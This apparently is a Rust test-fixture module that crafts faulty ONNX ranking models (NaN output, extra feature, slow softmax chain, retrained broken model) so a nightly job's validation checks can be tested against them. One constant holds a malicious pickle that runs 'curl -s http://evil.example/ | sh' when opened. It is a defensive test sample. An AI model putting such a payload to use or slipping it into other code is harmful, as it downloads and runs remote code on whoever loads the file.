//! Models that nobody should see, made of v2: each is what a training job makes by one mistake, or what somebody sends who means harm.
//!
//! An ONNX file is a message of Protocol Buffers. What is changed here is its graph: nodes are added at its end.

use super::cast::{BROKEN, RANKER_V2};

/// A model that the nightly job offers, and the check that has to refuse it.
#[derive(Debug, Clone)]
pub(super) struct Offer {
    /// What is wrong with it.
    pub(super) name: &'static str,
    /// As the job calls it.
    pub(super) file: &'static str,
    pub(super) check: &'static str,
    pub(super) bytes: Vec<u8>,
}

/// Field 6 of an ONNX model: what is said of it.
const DESCRIPTION: u64 = 6;
/// Field 7: its graph.
const GRAPH: u64 = 7;
/// Field 14: its metadata, in which features have names.
const METADATA: u64 = 14;
/// The last node's output, which is the score: as it is, and as it is called where nodes follow. Both are as long.
const SCORE: [&[u8]; 2] = [b"\x0a\x06output\x12\x08variable", b"\x0a\x06output\x12\x08ensemble"];
/// The width of the input: 40 features, and 41.
const WIDTH: [&[u8]; 2] = [b"\x02\x08\x28b\x18\x0a\x08variable", b"\x02\x08\x29b\x18\x0a\x08variable"];
/// Nodes of the slow one that come to nothing: each takes about 3 µs for 100 documents.
const DETOUR: usize = 1_500;
/// A pickle, protocol 0, that calls `os.system` when it is opened.
const EVIL: &[u8] = b"cos\nsystem\n(S'curl -s http://evil.example/ | sh'\ntR.";

/// All of them, in the order in which they are offered.
pub(super) fn offers() -> Vec<Offer> {
    let offer = |name, file, check, bytes| Offer { name, file, check, bytes };
    vec![
        offer("NaN scores", "nan.onnx", "scores", not_a_number()),
        offer("other features", "wide.onnx", "signature", another_width()),
        offer("slow", "slow.onnx", "latency", slow()),
        offer("upside down", "upside_down.onnx", "ndcg@10", upside_down()),
        offer("evil pickle", "evil.pkl", "globals", EVIL.to_vec()),
    ]
}

/// It takes the logarithm of the score at last: those below zero have none.
fn not_a_number() -> Vec<u8> {
    then(&[node("Log", &["ensemble"], "variable", &[])])
}

/// It was trained with a feature more than users' queries have.
fn another_width() -> Vec<u8> {
    let fields = fields(RANKER_V2).into_iter().filter(|(number, _)| *number != METADATA);
    replaced(&fields.flat_map(|(_, field)| field.to_vec()).collect::<Vec<u8>>(), WIDTH)
}

/// The broken one of the night before, trained again: the same model, and another file.
fn upside_down() -> Vec<u8> {
    let again = |(number, whole): (u64, &[u8])| if number == DESCRIPTION { field(DESCRIPTION, b"trained again") } else { whole.to_vec() };
    fields(BROKEN).into_iter().flat_map(again).collect()
}

/// It scores as v2 does, and takes a long way: the score times the sum of what a chain of softmax makes of the features, which is 1.
fn slow() -> Vec<u8> {
    let name = |step: usize| if step == 0 { "features".to_owned() } else { format!("detour{step}") };
    let mut nodes: Vec<Vec<u8>> = (0..DETOUR).map(|step| node("Softmax", &[&name(step)], &name(step + 1), &[])).collect();
    // An attribute: its name, its integers, and that it has integers.
    let axes = [field(1, b"axes"), vec![0x40, 1], vec![0xa0, 1, 7]].concat();
    nodes.push(node("ReduceSum", &[&name(DETOUR)], "one", &field(5, &axes)));
    nodes.push(node("Mul", &["ensemble", "one"], "variable", &[]));
    then(&nodes)
}

/// v2, and these nodes after its last one.
fn then(nodes: &[Vec<u8>]) -> Vec<u8> {
    let longer = |(number, whole): (u64, &[u8])| match number {
        GRAPH => field(GRAPH, &[replaced(content(whole), SCORE), nodes.concat()].concat()),
        _ => whole.to_vec(),
    };
    fields(RANKER_V2).into_iter().flat_map(longer).collect()
}

/// A node of a graph.
fn node(operator: &str, inputs: &[&str], output: &str, more: &[u8]) -> Vec<u8> {
    let mut node: Vec<u8> = inputs.iter().flat_map(|input| field(1, input.as_bytes())).collect();
    node.extend([field(2, output.as_bytes()), field(4, operator.as_bytes()), more.to_vec()].concat());
    field(1, &node)
}

/// With the first for the second, where it stands first.
fn replaced(bytes: &[u8], [old, new]: [&[u8]; 2]) -> Vec<u8> {
    let place = bytes.windows(old.len()).position(|window| window == old);
    let Some((before, rest)) = place.and_then(|place| bytes.split_at_checked(place)) else { return bytes.to_vec() };
    [before, new, rest.strip_prefix(old).unwrap_or(rest)].concat()
}

/// A field that is text, bytes or a message.
fn field(number: u64, content: &[u8]) -> Vec<u8> {
    [&varint((number << 3) | 2)[..], &varint(content.len() as u64), content].concat()
}

fn varint(mut number: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    while number > 0x7f {
        bytes.push(number.to_le_bytes()[0] | 0x80);
        number >>= 7;
    }
    bytes.push(number.to_le_bytes()[0]);
    bytes
}

/// The number at the beginning, and what follows it.
fn read_varint(bytes: &[u8]) -> (u64, &[u8]) {
    let length = bytes.iter().position(|byte| byte & 0x80 == 0).map_or(bytes.len(), |last| last + 1);
    let (number, rest) = bytes.split_at_checked(length).unwrap_or((bytes, &[]));
    (number.iter().rev().fold(0, |number, byte| (number << 7) | u64::from(byte & 0x7f)), rest)
}

/// The fields of a message by their numbers, each with its tag. An ONNX model has numbers and what has a length, and nothing else.
fn fields(mut message: &[u8]) -> Vec<(u64, &[u8])> {
    let mut fields = Vec::new();
    while !message.is_empty() {
        let (tag, rest) = read_varint(message);
        let (number, rest) = read_varint(rest);
        let length = if tag & 7 == 2 { usize::try_from(number).unwrap_or(usize::MAX) } else { 0 };
        let rest = rest.get(length..).unwrap_or_default();
        let (whole, after) = message.split_at_checked(message.len() - rest.len()).unwrap_or((message, &[]));
        fields.push((tag >> 3, whole));
        message = after;
    }
    fields
}

/// What is in a field, without its tag and length.
fn content(field: &[u8]) -> &[u8] {
    read_varint(read_varint(field).1).1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_is_its_fields() {
        let whole: Vec<u8> = fields(RANKER_V2).into_iter().flat_map(|(_, field)| field.to_vec()).collect();
        assert_eq!(whole, RANKER_V2);
        assert_eq!(then(&[]).len(), RANKER_V2.len(), "another name, and nothing else");
        assert_ne!(then(&[]), RANKER_V2);
    }

    #[test]
    fn each_model_is_another_one_than_v2() {
        let offers = offers();
        assert!(offers.iter().all(|offer| offer.bytes != RANKER_V2 && offer.bytes != BROKEN));
        let width = |bytes: &[u8]| bytes.windows(3).filter(|window| *window == b"\x02\x08\x29").count();
        assert_eq!(offers.iter().map(|offer| width(&offer.bytes)).collect::<Vec<_>>()[..2], [width(RANKER_V2), width(RANKER_V2) + 1]);
    }

    #[test]
    fn numbers_are_written_as_they_are_read() {
        for number in [0, 1, 127, 128, 300, 72_083, u64::from(u32::MAX)] {
            let bytes = [varint(number), vec![9]].concat();
            assert_eq!(read_varint(&bytes), (number, &[9_u8][..]));
        }
    }
}
